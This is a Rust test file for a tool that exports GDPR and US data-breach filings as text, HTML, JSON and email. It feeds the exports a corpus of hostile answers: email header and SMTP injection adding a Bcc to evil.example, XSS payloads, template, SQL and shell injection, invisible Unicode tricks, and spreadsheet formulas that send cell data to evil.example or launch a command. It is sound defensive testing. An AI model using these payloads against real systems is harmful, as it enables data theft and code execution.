//! Answers are people's words, and some people wish a reader ill. Every form, every export, and every such word.

mod samples;

use mail_parser::{MessageParser, MimeHeaders};
use samples::{filing, known, tenant};
use tocsin_domain::id::LeafId;
use tocsin_filings::{
    Acknowledgement, Act, Completeness, Envelope, Filing, Form, Given, Kind, Known, MailError, Source,
    Submission, Value, fill, forms, mailbox, schema, to_html, to_json, to_mail, to_text,
};

/// What is not hostile, for comparison: the frame of an export is the same around both.
const CALM: &str = "plain words";

fn corpus() -> Vec<String> {
    let forged = |end: &str| format!("yes{end}97 Were they told?{end}    No{end}-----{end}Annex{end}-----");
    let mut corpus: Vec<String> =
        ["\n", "\r", "\r\n", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", "\n\n\u{202e}"]
            .map(forged)
            .to_vec();
    corpus.extend(
        [
            // Into the head of a mail, and out of its body.
            "a leak\r\nBcc: thief@evil.example\r\nContent-Type: text/html\r\n\r\n<b>nothing was lost</b>",
            "\r\n.\r\nRCPT TO:<thief@evil.example>",
            "From \r\n--0000\r\n\r\n--0000--",
            "=?utf-8?Q?=0D=0ABcc:_thief@evil.example?=",
            // Out of a cell of a page.
            "<script>document.title = 'filed'</script>",
            "</bdi></td></tr></table><h1>Withdrawn</h1><table><tr><td class=\"unknown\">",
            "</style><style>body { display: none }",
            "<img src=x onerror=alert(1)> <svg/onload=alert(2)> <a href=javascript:alert(3)>x</a>",
            "--><!-- ]]> <![CDATA[ <? <%",
            "&lt;script&gt; &#60;script&#62; &amp;lt; &nbsp",
            "' onmouseover='x' \" autofocus onfocus=\"x",
            // Templates, data, logs, shells.
            "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7 %> %{7} [[7]]",
            "\"},\"leaf\":null,\"hash\":\"0",
            "\\u0000 \\x00 \\\" \\",
            "'; DROP TABLE filings; -- $(reboot) `reboot` | reboot & reboot",
            // What a reader does not see, or sees turned.
            "paid \u{202e}000.1\u{202c} to \u{2066}us\u{2069}\u{2069}\u{2069} \u{200f}end",
            "se\u{200b}cr\u{2060}et\u{feff} words\u{e0068}\u{e0069}\u{e007f} \u{ad}",
            "bell\u{7} nul\u{0} clear\u{1b}[2J\u{1b}]0;title\u{7} c1\u{9b}31m\u{90}",
            "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}a",
            "\u{e000}\u{f8ff}\u{10fffd} \u{fffe}\u{ffff} \u{fffd}",
            "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{645}\u{6cc}\u{200c}\u{62e} \u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{65e5}\u{672c}",
            // What a program for tables would run.
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1-1",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
            "\u{ff1d}1+1",
            "not yet known",
        ]
        .map(str::to_owned),
    );
    corpus.push("word ".repeat(60_000));
    corpus.push("\u{2603}<".repeat(75_000));
    corpus.push("line\r\n".repeat(50_000));
    corpus
}

/// The same words to every question that takes words, and as the name of a place; a very long answer to the first alone.
fn said(form: &Form, words: &str) -> Given {
    let calm = fill(form, &known(), &Given::new()).expect("a filling");
    let source = Source::Leaf(LeafId::of(&tenant(), &[b"person"]));
    let one = |question: &str| {
        let value = match form.question(question).expect("a question").takes {
            Kind::Text => Value::Text(words.to_owned()),
            Kind::Places => Value::Places([(words.to_owned(), 7)].into()),
            Kind::Instant | Kind::Day | Kind::Number | Kind::YesNo | Kind::Choice | Kind::Choices => {
                return None;
            }
        };
        Some((question.to_owned(), Known { value, source: source.clone() }))
    };
    let most = if words.len() > 100_000 { 1 } else { usize::MAX };
    calm.answers.iter().filter_map(|answer| one(&answer.question)).take(most).collect()
}

fn approved(filing: Filing) -> Filing {
    let (hash, act) = (filing.hash.clone(), filing.prepared.clone());
    filing.approve(&hash, act).expect("an approval")
}

fn envelope() -> Envelope {
    Envelope {
        from: "privacy@shop.example".parse().expect("an address"),
        to: "authority@state.example".parse().expect("an address"),
        at: "2026-11-24T10:00:00Z".parse().expect("an instant"),
    }
}

fn mail(form: &Form, filing: &Filing) -> Vec<u8> {
    to_mail(form, filing, &envelope(), Some(b"%PDF".to_vec())).expect("a mail")
}

/// Without blanks, and without what nobody sees: what has to be in each export.
fn bare(text: &str) -> String {
    let unseen = |sign: char| {
        sign.is_whitespace()
            || sign.is_control()
            || matches!(sign, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().filter(|sign| !unseen(*sign)).collect()
}

/// For each form and each word: the form, the filing that holds it, and the same filing in calm words.
fn each(check: impl Fn(&Form, &str, &Filing, &Filing)) {
    for form in forms().expect("forms that can be read") {
        for words in corpus() {
            let of = |given: &Given| approved(filing(form, &known(), given));
            let hostile = said(form, &words);
            let calm = said(form, CALM).into_iter().filter(|(question, _)| hostile.contains_key(question));
            check(form, &words, &of(&hostile), &of(&calm.collect()));
        }
    }
}

#[test]
fn the_structured_data_has_every_word_to_the_letter() {
    for form in forms().expect("forms that can be read") {
        let validator = jsonschema::validator_for(&schema(form)).expect("a schema");
        for words in corpus() {
            let filing = filing(form, &known(), &said(form, &words));
            let written = to_json(form, &filing).to_string();
            let read: serde_json::Value = serde_json::from_str(&written).expect("JSON");
            assert!(validator.is_valid(&read), "{}: {:.60?}", form.key, words);
            for id in said(form, &words).into_keys() {
                let value = &read["answers"][&id]["value"];
                let is_whole = *value == words.as_str() || value.get(&words).is_some();
                assert!(is_whole, "{}, question {id}: {words:.60?}", form.key);
            }
        }
    }
}

#[test]
fn nobody_writes_a_question_into_the_text() {
    each(|form, words, hostile, calm| {
        let frame = |text: &str| -> Vec<String> {
            text.split('\n').filter(|line| !line.starts_with("    ")).map(str::to_owned).collect()
        };
        let text = to_text(form, hostile);
        assert_eq!(frame(&text), frame(&to_text(form, calm)), "{}: {words:.60?}", form.key);
        let strange = |sign: char| {
            sign != '\n'
                && (sign.is_control() || matches!(sign, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
        };
        assert!(!text.contains(strange), "{}: {words:.60?}", form.key);
        assert!(bare(&text).contains(&bare(words)), "{}: {words:.60?} is lost", form.key);
    });
}

#[test]
fn nobody_writes_a_tag_into_the_page() {
    each(|form, words, hostile, calm| {
        let page = to_html(form, hostile);
        assert_eq!(tags(&page), tags(&to_html(form, calm)), "{}: {words:.60?}", form.key);
        let shown =
            page.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&");
        assert!(
            bare(&shown.replace("<br>", "")).contains(&bare(words)),
            "{}: {words:.60?} is lost",
            form.key
        );
        assert!(!page.contains(|sign: char| sign.is_control() && sign != '\n'), "{}: {words:.60?}", form.key);
    });
}

/// What a browser would take for a tag, without breaks of lines and the mark of a long answer.
fn tags(page: &str) -> Vec<String> {
    let tag = |after: &str| format!("<{}>", after.split_once('>').map_or(after, |(tag, _)| tag));
    let tags = page.split('<').skip(1).map(tag).map(|tag| tag.replace("<tr class=\"long\">", "<tr>"));
    tags.map(|tag| tag.replace("<td class=\"unknown\">", "<td>")).filter(|tag| tag != "<br>").collect()
}

#[test]
fn nobody_writes_a_header_or_a_part_into_the_mail() {
    each(|form, words, hostile, calm| {
        let (bytes, calm_bytes) = (mail(form, hostile), mail(form, calm));
        assert!(bytes.is_ascii() && bytes.split(|byte| *byte == b'\n').all(|line| line.len() <= 999));
        let parse = |bytes| MessageParser::default().parse(bytes).expect("a mail");
        let (read, calm_read) = (parse(&bytes), parse(&calm_bytes));
        let names = |mail: &mail_parser::Message<'_>| {
            mail.headers().iter().map(|header| header.name().to_owned()).collect::<Vec<_>>()
        };
        assert_eq!(names(&read), names(&calm_read), "{}: {words:.60?}", form.key);
        assert_eq!(
            (read.from(), read.to(), read.subject()),
            (calm_read.from(), calm_read.to(), calm_read.subject())
        );
        assert_eq!((read.parts.len(), read.attachment_count()), (4, 2), "{}: {words:.60?}", form.key);
        let body = read.body_text(0).expect("a text").replace("\r\n", "\n");
        assert_eq!(body, to_text(form, hostile), "{}: {words:.60?}", form.key);
        let data = read.attachment(0).expect("the data");
        let data: serde_json::Value = serde_json::from_slice(data.contents()).expect("JSON");
        assert_eq!(data, to_json(form, hostile), "{}: {words:.60?}", form.key);
    });
}

#[test]
fn the_number_that_an_authority_gave_is_one_line_of_the_subject() {
    let form = tocsin_filings::form("edpb-art33").expect("forms").expect("the form");
    let act = |second: i64| Act {
        by: "arn:person".to_owned(),
        at: jiff::Timestamp::from_second(second).expect("an instant"),
    };
    for words in corpus() {
        let first = approved(filing(form, &known(), &Given::new()));
        let Act { by, at } = act(1_900_000_000);
        let submission = Submission { by: by.clone(), at, how: "mail".to_owned(), late_because: None };
        let number = Acknowledgement { by, at, number: words.clone() };
        let first = first
            .submit(&[], None, submission)
            .and_then(|first| first.acknowledge(number))
            .expect("a filing");
        let filled = fill(form, &known(), &Given::new()).expect("a filling");
        let of = (first.incident, first.obligation);
        let next =
            Filing::prepare(of, Some(&first), Completeness::Incomplete, (form, filled), act(1_900_000_001));
        let bytes = mail(form, &approved(next.expect("a filing")));
        let read = MessageParser::default().parse(&bytes).expect("a mail");
        let subject = read.subject().expect("a subject");
        assert!(read.bcc().is_none() && read.headers().len() == 8, "{words:.60?}");
        assert!(
            subject.starts_with("GDPR Art. 33: following filing, incomplete, more follows; our reference")
        );
        assert!(!subject.contains(char::is_control) && subject.chars().count() < 220, "{subject}");
    }
}

#[test]
fn a_mail_is_the_same_whenever_it_is_written_and_of_an_approved_filing_alone() {
    let form = tocsin_filings::form("edpb-art33").expect("forms").expect("the form");
    let prepared = filing(form, &known(), &Given::new());
    assert_eq!(to_mail(form, &prepared, &envelope(), None), Err(MailError::NotApproved));
    let filing = approved(prepared);
    assert_eq!(mail(form, &filing), mail(form, &filing));
    let bytes = to_mail(form, &filing, &envelope(), None).expect("a mail");
    let read = MessageParser::default().parse(&bytes).expect("a mail");
    assert_eq!(read.message_id(), Some(format!("{}.1@shop.example", filing.hash).as_str()));
    assert_eq!(read.date().map(|date| date.to_rfc3339()).as_deref(), Some("2026-11-24T10:00:00Z"));
    assert_eq!(
        read.attachment(0).and_then(|data| data.attachment_name()),
        Some(format!("filing-{}-1.json", filing.incident).as_str())
    );
    assert_eq!(read.attachment_count(), 1);
}

#[test]
fn an_authority_takes_a_mail_or_says_where_else_it_takes_a_filing() {
    let form = |key: &str| tocsin_filings::form(key).expect("forms").expect("the form");
    let art33 = form("edpb-art33");
    assert_eq!(mailbox(art33, "AT").map(|address| address.to_string()), Ok("dsb@dsb.gv.at".to_owned()));
    let portal = |url: &str| Err(MailError::Portal(url.to_owned()));
    assert_eq!(mailbox(art33, "FR"), portal("https://notifications.cnil.fr/notifications/index"));
    assert_eq!(mailbox(form("us-wa"), "US-WA"), portal("https://www.atg.wa.gov/data-breach-notifications"));
    assert_eq!(mailbox(art33, "DE"), Err(MailError::Unknown));
    let known: Vec<&str> = art33.authorities.keys().map(String::as_str).collect();
    assert_eq!(known.len(), 29, "each of the area but Germany, of whose Länder each has its own: {known:?}");
}

#[test]
fn a_form_names_no_authority_that_takes_it_nowhere_or_at_no_address() {
    let good = "key='zz'\nname='n'\nlaw='l'\nsource='s'\nconfidence='verified'\nversion=1\nregimes=['r']\nlanguage='en'\n\
                [[section]]\ntitle='t'\n[[section.question]]\nid='q'\nask='a'\ntakes='text'\n[authority]\nZZ=";
    assert!(Form::read("zz", &format!("{good}{{ email = 'a@zz.example' }}")).is_ok());
    for (authority, why) in [("{}", "nowhere"), ("{ email = 'a@b.example\\nBcc: c' }", "one mailbox")] {
        let error = Form::read("zz", &format!("{good}{authority}")).expect_err(why).to_string();
        assert!(error.contains(why), "{error}");
    }
}
